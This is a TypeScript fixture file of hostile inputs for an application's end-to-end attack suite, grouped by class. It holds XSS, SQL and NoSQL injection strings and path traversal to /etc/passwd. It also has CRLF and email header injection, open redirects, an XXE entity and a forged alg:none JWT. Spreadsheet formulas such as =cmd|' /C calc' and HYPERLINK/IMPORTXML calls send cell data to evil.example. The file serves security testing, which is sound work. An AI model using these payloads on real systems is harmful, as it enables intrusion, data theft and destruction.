// Hostile inputs for the attack suite (attacks.e2e.spec.ts), grouped by class. The XSS vectors are the news
// sanitiser's corpus (OWASP and PortSwigger cheat sheets plus generated combinations), reused here.
// The corpus is test data of the news feature (its testing entry); the api's attack suite sends the same vectors over HTTP.
import { XSS_CORPUS } from '@solvr/server-news/testing';

export type AttackClass =
  | 'xss'
  | 'sql'
  | 'filter-operator'
  | 'crlf'
  | 'path-traversal'
  | 'csv-formula'
  | 'malformed-body'
  | 'repeated-param'
  | 'oversize'
  | 'email-confusable'
  | 'open-redirect'
  | 'header'
  | 'cookie';

/** Payloads that would set window.__pwned if they ever ran in a page (the browser spec looks for it). */
export const PWN_PAYLOADS = [
  '<img src=x onerror="window.__pwned=1">',
  '<svg onload="window.__pwned=1"></svg>',
  '<script>window.__pwned=1</script>',
  '"><img src=x onerror=window.__pwned=1>',
  "'><svg/onload=window.__pwned=1>",
  '<a href="javascript:window.__pwned=1">click me</a>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '<details open ontoggle="window.__pwned=1">x</details>',
  '</textarea></title></style><script>window.__pwned=1</script>',
  '{{constructor.constructor("window.__pwned=1")()}}',
];

/** The news sanitiser's corpus (100+), every fourth vector, plus the payloads above. */
export const XSS: string[] = [...PWN_PAYLOADS, ...XSS_CORPUS.filter((_, i) => i % 4 === 0)];

export const SQL: string[] = [
  "' OR '1'='1",
  "' OR 1=1 --",
  '" OR ""="',
  "') OR ('a'='a",
  "admin'--",
  "1; DROP TABLE users; --",
  "' UNION SELECT password_hash FROM users --",
  "1' AND SLEEP(5) AND '1'='1",
  "'; WAITFOR DELAY '0:0:5' --",
  '%',
  '_',
  '\\',
  "\\'; SELECT 1; --",
  "x' || (SELECT sqlite_version()) || '",
  '0x27',
  "' AND 1=CAST((SELECT email FROM users LIMIT 1) AS INT) --",
];

/** Values of the platform API's `q` (and of anything parsed as a filter): operators and structures it must refuse or treat as values. */
export const FILTERS: string[] = [
  '{"title":{"$regex":".*"}}',
  '{"$where":"sleep(5)"}',
  '{"title":{"$gt":""}}',
  '{"title":{"$ne":null},"$or":[{"is_published":false}]}',
  '{"is_published":{"$in":"not-a-list"}}',
  '{"title":{"$exists":"yes"}}',
  '{"__proto__":{"admin":true}}',
  '{"constructor":{"prototype":{"admin":true}}}',
  '{"password_hash":{"$exists":true}}',
  '{"$or":"x"}',
  '{"$and":[{"$or":[{"$and":[{"$or":[{"title":"x"}]}]}]}]}',
  '{"title":{"$eq":{"$ne":1}}}',
  '{"created_date":{"$gte":"not a date"}}',
  '{"title":' + '"x"'.padEnd(5000, ' ') + '}',
  '[]',
  'null',
  '123',
  '"title"',
  '{"title":',
  "{'title':'x'}",
  '{"title":"x"} OR 1=1',
  '{"title":{"$$eq":"x"}}',
  '{"title.$":"x"}',
  '{"":"x"}',
];

export const CRLF: string[] = [
  'Hello\r\nBcc: victim@evil.example',
  'Hello\nBcc: victim@evil.example',
  'Hello\rBcc: victim@evil.example',
  'Hello\r\n\r\n<h1>injected body</h1>',
  'Hello%0d%0aBcc:%20victim@evil.example',
  'Hello\u2028Bcc: victim@evil.example',
  'Hello\u0085Bcc: victim@evil.example',
  'Hello\r\nContent-Type: text/html\r\nX-Injected: 1',
  '=?utf-8?q?Hello=0D=0ABcc:_victim@evil.example?=',
  'Hello\u0000Bcc: victim@evil.example',
];

export const TRAVERSAL: string[] = [
  '../../etc/passwd',
  '../../../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%2e%2e/%2e%2e/package.json',
  '%2e%2e%2f%2e%2e%2fpackage.json',
  '..%252f..%252fpackage.json',
  '....//....//etc/passwd',
  '..\\..\\windows\\win.ini',
  '..%5c..%5cpackage.json',
  '/etc/passwd',
  'C:\\Windows\\win.ini',
  'x%00.zip',
  '..%c0%af..%c0%afetc%c0%afpasswd',
  '%2e%2e%5c%2e%2e%5cpackage.json',
  '.',
  '..',
];

/** File names as a browser might send them in a multipart part header. */
export const FILE_NAMES: string[] = [
  '../../etc/passwd',
  '..%2f..%2fsetup.zip',
  '%2e%2e%2fsetup.zip',
  '..\\..\\setup.exe',
  '/etc/passwd',
  'setup\u0000.zip',
  '<img src=x onerror=alert(1)>.zip',
  '"><script>alert(1)</script>.zip',
  'setup\u202Egpj.exe',
  'CON.zip',
  '.htaccess',
  ' .zip',
  '=cmd|calc!A0.zip',
  'a'.repeat(600) + '.zip',
];

export const CSV_FORMULAS: string[] = [
  '=1+1',
  '=cmd|\' /C calc\'!A0',
  '+SUM(1,2)',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
];

export const EMAILS: string[] = [
  '"victim@attack.test"@evil.example',
  '<victim@attack.test>',
  'victim@attack.test>',
  'victim@attack.test <attacker@evil.example>',
  'attacker@evil.example, victim@attack.test',
  'vіctim@attack.test', // Cyrillic і
  'victim@аttack.test', // Cyrillic а in the domain
  'victim＠attack.test', // fullwidth at sign
  'ＶＩＣＴＩＭ@attack.test', // fullwidth letters
  'victim@attack.test\u202E',
  '\u202Evictim@attack.test',
  'vic\u200Btim@attack.test', // zero-width space
  'victim\u200D@attack.test', // zero-width joiner
  '\uFEFFvictim@attack.test',
  'VICTIM@ATTACK.TEST',
  ' victim@attack.test ',
  'victim@attack.test.',
  'victim@attack.test\r\nBcc: a@evil.example',
  'victim%40attack.test',
  'victim@[127.0.0.1]',
  'victim+tag@attack.test',
  'v\u0069\u0307ctim@attack.test', // combining dot
];

/** Return URLs that must never lead off the site. */
export const REDIRECTS: string[] = [
  '//evil.example',
  '//evil.example/%2e%2e',
  '/\\evil.example',
  '\\\\evil.example',
  '/.//evil.example',
  '/./\t/evil.example',
  '/%2F%2Fevil.example',
  '/%2f/evil.example',
  '/%5cevil.example',
  '/..//evil.example',
  '/\u3002evil.example',
  'https://evil.example',
  'http:evil.example',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'javascript%3Aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  '%2F%2Fevil.example',
  '/\r\nLocation: https://evil.example',
  '///evil.example',
  'https:/\\evil.example',
  '/@evil.example',
];

/** Request bodies that are not what a JSON route expects. */
export const MALFORMED_BODIES: Array<{ type: string; body: string | Buffer }> = [
  { type: 'application/json', body: '{"email":' },
  { type: 'application/json', body: '{"email":"a@b.test",}' },
  { type: 'application/json', body: "{'email':'a@b.test'}" },
  { type: 'application/json', body: '\u0000\u0001\u0002' },
  { type: 'application/json', body: Buffer.from([0xff, 0xfe, 0x7b, 0x00]) },
  { type: 'application/json', body: '['.repeat(5000) + ']'.repeat(5000) },
  { type: 'application/json', body: JSON.stringify(nested(200)) },
  { type: 'application/json', body: '{"__proto__":{"role":"admin"},"email":"a@b.test","password":"x"}' },
  { type: 'application/json', body: '{"constructor":{"prototype":{"role":"admin"}}}' },
  { type: 'application/json', body: '{"email":["a@b.test","c@d.test"],"password":{"$ne":null}}' },
  { type: 'application/json', body: '{"email":{"$gt":""},"password":{"$gt":""}}' },
  { type: 'application/json', body: '"just a string"' },
  { type: 'application/json', body: 'null' },
  { type: 'application/json', body: '1e999999' },
  { type: 'application/json', body: '{"email":"a@b.test","email":"admin@b.test"}' },
  { type: 'text/plain', body: 'email=a@b.test' },
  { type: 'application/x-www-form-urlencoded', body: 'email=a%40b.test&email=c%40d.test' },
  { type: 'application/xml', body: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>' },
  { type: 'multipart/form-data', body: 'no boundary at all' },
  { type: 'multipart/form-data; boundary=x', body: '--x\r\nContent-Disposition: form-data; name="email"\r\n\r\na@b.test' },
  { type: 'application/json; charset=utf-7', body: '{"email":"a@b.test"}' },
  { type: 'application/json; charset=latin1', body: '{"email":"a@b.test"}' },
  { type: '', body: '{"email":"a@b.test"}' },
];

/** An object nested `depth` levels deep. */
export function nested(depth: number): unknown {
  let value: unknown = 'x';
  for (let i = 0; i < depth; i++) value = { a: value };
  return value;
}

/** Authorization header values that are not a token of ours. */
export const AUTH_HEADERS: string[] = [
  'Bearer ',
  'Bearer null',
  'Bearer undefined',
  "Bearer ' OR '1'='1",
  'Bearer eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiIxIiwicm9sZSI6ImFkbWluIn0.',
  'Bearer a.b.c',
  'Bearer ' + 'A'.repeat(6000),
  'Basic YWRtaW46YWRtaW4=',
  'bearer',
  'Bearer \u00ff\u00fe',
  'Bearer x, Bearer y',
  'Token abc',
];

/** Cookie header values: malformed, signed-looking, JSON-looking and huge. */
export const COOKIES: string[] = [
  'solvr_refresh=j:{"a":1}',
  'solvr_refresh=',
  'solvr_refresh=%',
  'solvr_refresh=%E0%A4%A',
  "solvr_refresh=' OR '1'='1",
  'solvr_refresh=../../etc/passwd',
  'solvr_refresh=a; solvr_refresh=b',
  'solvr_refresh=' + 'x'.repeat(7000),
  '=; ==; ;;;',
  'solvr_refresh="unterminated',
  '__proto__=1; constructor=2',
  'solvr_oauth_state=x; solvr_oauth_return=//evil.example',
];

/** Header values tried on a public route. */
export const HEADERS: Array<Record<string, string>> = [
  { 'X-Forwarded-For': "' OR 1=1 --" },
  { 'X-Forwarded-For': '999.999.999.999, ::ffff:zz' },
  { 'X-Forwarded-For': Array.from({ length: 300 }, (_, i) => `10.0.${i % 256}.1`).join(', ') },
  { 'X-Forwarded-Host': 'evil.example' },
  { 'X-Forwarded-Proto': 'javascript' },
  { 'X-Original-URL': '/api/admin/users' },
  { 'X-Rewrite-URL': '/api/admin/users' },
  { Origin: 'null' },
  { Origin: 'https://evil.example' },
  { Referer: 'javascript:alert(1)' },
  { 'Accept-Language': '../../etc/passwd' },
  { Accept: '*/*;q=' + '9'.repeat(2000) },
  { Range: 'bytes=0-1,0-1,0-1,0-1,0-1,0-1,0-1,0-1,0-1,0-1' },
  { 'If-None-Match': '"' + 'x'.repeat(4000) + '"' },
  { 'X-HTTP-Method-Override': 'DELETE' },
  { 'Content-Encoding': 'gzip' },
  { 'X-App-Id': '../../admin' },
  { 'On-Behalf-Of': "Bearer ' OR 1=1" },
  { 'User-Agent': '<script>alert(1)</script>' },
  { 'X-Big': 'y'.repeat(12000) },
];
